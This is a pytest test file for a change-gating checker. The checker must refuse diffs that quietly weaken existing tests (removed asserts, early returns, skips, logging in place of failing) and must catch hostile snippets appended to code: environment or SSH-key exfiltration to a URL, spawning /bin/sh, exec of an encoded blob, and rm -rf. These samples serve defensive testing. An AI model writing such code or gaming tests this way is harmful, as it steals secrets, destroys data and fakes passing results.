"""One bad thing inside an honest change: what a change adds elsewhere pays for nothing that it takes away."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from improve_loop.gates import judge
from improve_loop.rules.gating.policy import Policy, Scope
from improve_loop.rules.gating.scratch import scratch_delta

CODE = {"src/sums.py": "def add(a, b):\n    return a + b\n"}
MORE = {"src/sums.py": "def add(a, b):\n    return b + a\n\n\ndef times(a, b):\n    return a * b\n"}
OLD = "def test_add():\n    made = add(1, 2)\n    assert made == 3\n    assert add(0, 0) == 0\n"
NEW = "\n\ndef test_times():\n    assert times(2, 3) == 6\n    assert times(0, 3) == 0\n    assert times(1, 1) == 1\n"
HELPED = "def holds(a, b, c):\n    assert add(a, b) == c\n\n\ndef test_add():\n    holds(1, 2, 3)\n"
JS = "describe('sums', () => {\n  it('adds', () => {\n    expect(add(1, 2)).toBe(3)\n  })\n})\n"
JS_NEW = "it('multiplies', () => {\n  expect(times(2, 3)).toBe(6)\n})\n"
GO = 'func TestAdd(t *testing.T) {\n\tif got := Add(1, 2); got != 3 {\n\t\tt.Errorf("got %d", got)\n\t}\n}\n'
GO_NEW = '\nfunc TestTimes(t *testing.T) {\n\tif got := Times(2, 3); got != 6 {\n\t\tt.Errorf("got %d", got)\n\t}\n}\n'
TABLE = "func TestAdd(t *testing.T) {\n\tfor name, tc := range map[string]pair{\n{rows}\t} {\n\t\tif Add(tc.a, tc.b) != tc.c {\n\t\t\tt.Error(name)\n\t\t}\n\t}\n}\n"
JUNIT = "import org.junit.Test;\n\nclass SumsTest {\n  @Test\n  public void testAdd() {\n    assertEquals(3, add(1, 2));\n  }\n}\n"
JUNIT_NEW = "  @Test\n  public void testTimes() {\n    assertEquals(6, times(2, 3));\n  }\n}\n"
RUST = "rgtest!(adds, |dir: Dir| {\n    assert_eq!(3, add(1, 2));\n});\n"
RUST_NEW = "\nrgtest!(multiplies, |dir: Dir| {\n    eqnice!(6, times(2, 3));\n});\n"


def refused(before: Mapping[str, str], after: Mapping[str, str]) -> set[str]:
    old, new = ({path: text.encode() for path, text in files.items()} for files in (before, after))
    scope = Scope(target_paths=tuple({*before, *after}), class_="code")
    return {item.rule for item in judge(scratch_delta(old, new), scope, Policy()) if item.severity == "refuse"}


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("tests/test_sums.py", OLD, OLD.replace("    assert made == 3\n", "") + NEW),
        ("tests/test_sums.py", OLD, OLD.replace("made == 3", "made") + NEW),
        ("tests/test_sums.py", OLD, OLD.replace("def test_add", "def check_add") + NEW),
        ("tests/test_sums.py", OLD, OLD.replace("():\n", "():\n    return\n", 1) + NEW),
        ("tests/test_sums.py", OLD, OLD.replace("():\n", "():\n    if not FULL:\n        return\n", 1) + NEW),
        ("tests/test_sums.py", OLD, OLD.replace("():\n", "():\n    yield\n", 1) + NEW),
        ("tests/test_sums.py", OLD, OLD.replace("    made = add(1, 2)\n    assert made == 3", "    want = add(1, 2)\n    assert add(1, 2) == want") + NEW),
        ("tests/test_sums.py", HELPED, HELPED.replace("    assert add(a, b) == c\n", "    add(a, b)\n") + NEW),
        ("tests/test_sums.py", "class TestSums:\n" + OLD.replace("def", "    def").replace("    made", "        made").replace("    assert", "        assert"), "class TestSums:\n    def __init__(self):\n        self.x = 1\n\n" + OLD.replace("def", "    def").replace("    made", "        made").replace("    assert", "        assert")),
        ("src/sums.spec.js", JS, JS.replace("describe(", "xdescribe(") + JS_NEW),
        ("src/sums.spec.js", JS, JS.replace("toBe(3)", "toBeDefined()") + JS_NEW),
        ("sums_test.go", GO, GO.replace("t.Errorf", "t.Logf") + GO_NEW),
        ("sums_test.go", GO, GO.replace("\tif got :=", "\treturn\n\tif got :=") + GO_NEW),
        ("sums_test.go", GO, "//go:build flaky\n\n" + GO + GO_NEW),
        ("sums_test.go", TABLE.replace("{rows}", '\t\t"one": {1, 2, 3},\n\t\t"two": {0, 0, 0},\n'), TABLE.replace("{rows}", '\t\t"one": {1, 2, 3},\n')),
        ("src/test/java/SumsTest.java", JUNIT, JUNIT.replace("  @Test\n", "").replace("}\n}\n", "}\n\n" + JUNIT_NEW)),
        ("tests/sums.rs", RUST, RUST.replace("    assert_eq!(3, add(1, 2));\n", "") + RUST_NEW),
    ],
)  # fmt: skip
def test_new_tests_pay_for_nothing_that_is_taken_from_old_ones(path: str, before: str, after: str) -> None:
    assert refused({path: before, **CODE}, {path: after, **MORE})


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("tests/test_sums.py", OLD, OLD + NEW),
        ("tests/test_sums.py", OLD, OLD.replace("    assert made == 3\n    assert add(0, 0) == 0", "    holds(1, 2, 3)\n    holds(0, 0, 0)") + "\n\ndef holds(a, b, c):\n    assert add(a, b) == c\n    assert add(b, a) == c\n"),
        ("tests/test_sums.py", OLD + NEW + OLD.replace("test_add", "test_add_again"), OLD + NEW),
        ("tests/test_sums.py", OLD, OLD.replace("    made = add(1, 2)\n    assert made == 3\n", "") + "\n\ndef test_add_some():\n    made = add(1, 2)\n    assert made == 3\n"),
        ("sums_test.go", GO, GO.replace('if got := Add(1, 2); got != 3 {\n\t\tt.Errorf("got %d", got)\n\t}', "assert.Equal(t, 3, Add(1, 2))") + GO_NEW),
        ("src/sums.spec.js", JS, JS.replace("toBe(3)", "toEqual(3)") + JS_NEW),
        ("tests/sums.rs", RUST, RUST + RUST_NEW),
    ],
)  # fmt: skip
def test_tests_written_anew_pass(path: str, before: str, after: str) -> None:
    assert refused({path: before, **CODE}, {path: after, **MORE}) == set()


@pytest.mark.parametrize(
    "text",
    [
        "data = dict(os.environ)\nsend = urlopen(URL, data=encode(data))\n",
        "requests.post(URL, data=(Path.home() / '.ssh/id_rsa').read_bytes())\n",
        "pty.spawn('/bin/sh')\n",
        'exec(__import__("zlib").decompress(__import__("base64").b64decode(TEXT)))\n',
        "for path in Path('/srv/app').rglob('*'):\n    path.unlink()\n",
        "path = urlretrieve(URL)[0]\nos.chmod(path, 0o755)\n",
        "command = ['rm']\ncommand.append('-rf')\ncommand.append('/srv/app')\nrun(command)\n",
    ],
)
def test_what_takes_several_lines_is_seen_inside_honest_code(text: str) -> None:
    assert refused(CODE, {"src/sums.py": MORE["src/sums.py"] + "\n\n" + text})


@pytest.mark.parametrize(
    "text",
    [
        "data = dict(os.environ)\nrun(command, env=data)\n",
        "for path in Path(folder).rglob('*.pyc'):\n    path.unlink()\n",
        "path = urlretrieve(URL)[0]\ncheck(path, sha256)\nos.chmod(path, 0o755)\n",
        "command = ['git', 'log']\ncommand.append('--oneline')\nrun(command)\n",
    ],
)
def test_what_looks_like_that_passes(text: str) -> None:
    assert refused(CODE, {"src/sums.py": MORE["src/sums.py"] + "\n\n" + text}) == set()
